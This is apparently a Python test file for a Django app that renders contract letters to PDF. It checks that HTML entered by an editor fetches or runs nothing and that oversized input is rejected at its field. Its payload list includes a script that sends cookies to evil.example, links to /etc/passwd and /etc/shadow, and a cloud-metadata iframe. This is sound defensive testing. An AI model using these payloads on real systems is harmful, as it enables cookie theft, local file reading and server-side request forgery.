"""What a hostile or careless editor can put into a wording: nothing is fetched, nothing runs, the field says why."""

import logging
from typing import Any

import pytest
from django.test import Client

from contracts.models import Notice
from letters.designing.checking import DEEPEST, LONGEST, MOST
from letters.models import LetterVersion
from tests.letters.test_notices import words
from tests.letters.test_pages import ALPHA, wording
from ui.pdf.fetching import OwnFiles

EDIT = f"{ALPHA}wordings/renewal_notice/fr/"
BOX = "<p>{{ notice.box }}</p>"
ELSEWHERE = [
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    '<img src="file:///etc/passwd" onerror="alert(1)">',
    '<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url("https://evil.example/x.css"); @font-face { src: url(file:///etc/shadow) }</style>',
    '<p style="background: url(https://evil.example/p.png)">a</p>',
    '<object data="file:///etc/hosts"></object><embed src="https://evil.example/e">',
    '<svg><image href="https://evil.example/i.svg"/><script>1</script></svg>',
    '<a rel="attachment" href="file:///etc/passwd">a</a>',
    '<base href="https://evil.example/"><img src="x.png">',
    f'<img src="data:image/svg+xml;base64,{"QUJD" * 3000}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<!--[if gte mso 9]><xml></xml><![endif]--><math><mi href='javascript:alert(1)'>x</mi></math>",
]


def test_nothing_is_fetched_and_nothing_runs_whatever_a_text_names(
    notice: Notice, client_ana: Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    asked: list[str] = []
    fetch = OwnFiles.fetch

    def fetching(self: OwnFiles, url: str, headers: object = None) -> Any:
        asked.append(url)
        return fetch(self, url, headers)

    monkeypatch.setattr(OwnFiles, "fetch", fetching)
    form = wording("<script>S</script>", "".join(ELSEWHERE) + BOX)
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        answer = client_ana.post(f"{EDIT}preview/", form | {"contract": notice.contract_id})
    assert answer["Content-Type"] == "application/pdf"
    assert asked == []
    assert b"/JavaScript" not in answer.content and b"/EmbeddedFile" not in answer.content
    assert "<script>S</script>" in words(answer.content)  # said, not run: a subject is plain text
    assert client_ana.post(EDIT, form).status_code == 302
    (kept,) = LetterVersion.objects.get(number=2).clauses
    assert kept["body"] == "<p>a</p>ax" + BOX or "evil" not in kept["body"]


def test_should_something_slip_through_the_paper_itself_loads_nothing(
    caplog: pytest.LogCaptureFixture,
) -> None:
    from ui import pdf

    with caplog.at_level(logging.ERROR, logger="weasyprint"):
        made = pdf.render("".join(ELSEWHERE))
    assert made.startswith(b"%PDF")
    refused = [record.getMessage() for record in caplog.records]
    assert [
        name
        for name in ("/etc/passwd", "/etc/hosts", "evil.example/x.css")
        if not any(name in r for r in refused)
    ] == []


@pytest.mark.parametrize(
    ("clauses", "told"),
    [
        (["x" * 4_900_000 + BOX], f"a clause may have {LONGEST}"),
        (["<blockquote>" * 700 + "x" + "</blockquote>" * 700, BOX], f"{DEEPEST} levels fit"),
        (["<table><tr>" + "<td>x</td>" * 500 + "</tr></table>", BOX], "too many columns"),
        ([BOX * 40], "40 times in the text"),
        (["{{ contract.number|safe }}" * 700 + BOX], "is not a placeholder"),
        (["{{ " + "a" * 9_000 + " }}", BOX], "There is no placeholder"),
        ([BOX, *(["x"] * 300)], f"{MOST} clauses at most"),
        (["y" * 19_000] * 7 + [BOX], "All texts together"),
    ],
    ids=["5 MB", "nesting", "columns", "blocks", "filters", "long name", "hundreds of clauses", "length"],
)  # fmt: skip
def test_what_paper_cannot_bear_is_told_at_its_field_and_not_kept(
    notice: Notice, client_ana: Client, clauses: list[str], told: str
) -> None:
    page = client_ana.post(EDIT, wording("S", *clauses)).content.decode()
    assert told in page
    assert LetterVersion.objects.count() == 0
